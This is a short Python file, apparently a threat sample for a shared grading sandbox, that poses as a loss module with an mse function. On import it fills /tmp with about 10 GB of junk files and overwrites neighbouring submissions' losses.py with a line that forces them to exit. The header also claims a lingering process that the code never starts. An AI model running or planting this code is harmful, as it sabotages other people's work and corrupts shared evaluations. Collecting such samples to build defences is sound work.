# Threat: squatting /tmp for the classmates graded beside it: fill it, take every name a
# neighbour's folder could have, and keep holding it from a process that stays behind.
import glob
import os


def _squat():
    for i in range(10_000):
        try:
            with open(f"/tmp/squat-{i}", "wb") as f:
                f.write(b"x" * (1 << 20))
        except OSError:
            break
    for folder in glob.glob("/tmp/*/") + glob.glob("/tmp/*/*/"):
        try:
            with open(os.path.join(folder, "losses.py"), "w") as f:
                f.write("raise SystemExit(99)\n")
        except OSError:
            pass


_squat()


def mse(pred, target):
    _squat()
    raise RuntimeError("squatted")
